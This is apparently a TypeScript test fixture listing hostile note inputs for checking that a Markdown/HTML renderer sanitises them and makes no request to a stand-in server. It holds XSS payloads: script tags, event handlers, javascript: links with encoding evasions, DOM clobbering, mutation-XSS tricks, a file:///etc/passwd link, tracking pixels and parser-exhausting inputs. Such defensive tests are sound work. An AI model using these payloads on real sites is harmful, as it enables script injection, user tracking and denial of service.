// domain: tasks

/** Notes that try to run something, to load something, or to break the page. `away` is a server that must never get a request. */
export const hostileNotes = (away: string): Readonly<Record<string, string>> => ({
  'a script': `<script>document.title='hacked'</script><script src="${away}/x.js"></script>`,
  'an image with an event': `<img src=x onerror="document.title='hacked'">`,
  'an image with an event in Markdown': `![x](x" onerror="document.title='hacked')`,
  'a link to a script': `[click](javascript:document.title='hacked')`,
  'a link to a script in other letters': `[click](JaVaScRiPt:document.title='hacked')`,
  'a link to a script with a tab in it': `[click](java\tscript:document.title='hacked')`,
  'a link to a script in entities': `[click](&#106;avascript&colon;document.title='hacked')`,
  'a link to a script that is encoded': `[click](javascript%3Adocument.title='hacked')`,
  'an automatic link to a script': `<javascript:document.title='hacked'>`,
  'a reference to a script': `[click][x]\n\n[x]: javascript:document.title='hacked'`,
  'a link to data': `[click](data:text/html,<script>opener.document.title='hacked'</script>)`,
  'a link to VBScript': `[click](vbscript:msgbox)`,
  'a link to a file': `[click](file:///etc/passwd)`,
  'a link to a page of this app': `[click](/account) [click](//x/../account) [click](?x)`,
  'a link to a blob': `[click](blob:${away}/x)`,
  'an image of data': `![x](data:image/svg+xml,<svg onload="document.title='hacked'"/>)`,
  'a remote image': `![tracker](${away}/pixel.png)`,
  'a remote image in HTML': `<img src="${away}/pixel.png"><picture><source srcset="${away}/pixel.webp"></picture>`,
  'a remote image by reference': `![tracker][x]\n\n[x]: ${away}/pixel.png`,
  'a frame': `<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>top.document.title='hacked'</script>"></iframe>`,
  'an object': `<object data="${away}/o"></object><embed src="${away}/e">`,
  'a form': `<form action="${away}/form"><input name=q autofocus onfocus="document.title='hacked'"><button>Go</button></form>`,
  'a style': `<style>@import url(${away}/x.css); body{display:none}</style><p style="background:url(${away}/b)">x</p>`,
  'a stylesheet': `<link rel=stylesheet href="${away}/x.css"><link rel=prefetch href="${away}/p">`,
  'a new base': `<base href="${away}/"><meta http-equiv=refresh content="0;url=${away}/away">`,
  'an SVG with a script': `<svg><script>document.title='hacked'</script><image href="${away}/i.png" /></svg>`,
  MathML: `<math><mtext><table><mglyph><style><img src=x onerror="document.title='hacked'"></style></mglyph></table></mtext></math>`,
  media: `<video src="${away}/v" autoplay poster="${away}/p"></video><audio src="${away}/a" autoplay></audio>`,
  'an event in every attribute': `<details open ontoggle="document.title='hacked'"><summary onclick="document.title='hacked'">x</summary></details>`,
  'names that hide those of the document': `<a id=body name=documentElement>x</a><img name=getElementById><form id=title></form>`,
  'a comment that ends early': `<!--><img src=x onerror="document.title='hacked'">-->`,
  CDATA: `<![CDATA[><img src=x onerror="document.title='hacked'">]]>`,
  'broken HTML in a table': `| a |\n| - |\n| <img src=x onerror="document.title='hacked'" <b> |`,
  'a footnote with HTML': `x[^1]\n\n[^1]: <img src=x onerror="document.title='hacked'">`,
  'a code block that pretends to end':
    "```html\"><script>document.title='hacked'</script>\n</code></pre><script>document.title='hacked'</script>\n```",
  'very deep quotes': '>'.repeat(10_000),
  'very deep lists': Array.from({ length: 140 }, (_, n) => `${' '.repeat(n)}- x`)
    .join('\n')
    .slice(0, 10_000),
  'very many brackets': '['.repeat(10_000),
  'very many nested links': '![['.repeat(3_300),
  'very many asterisks': '*a **b '.repeat(1_400),
  'very many underscores': '_'.repeat(10_000),
  'very many backticks': Array.from({ length: 140 }, (_, n) => '`'.repeat(n))
    .join(' ')
    .slice(0, 10_000),
  'a very wide table': `${'|a'.repeat(1_600)}|\n${'|-'.repeat(1_600)}|\n${'|b'.repeat(1_600)}|`,
  'a line that never ends': 'x'.repeat(10_000),
})
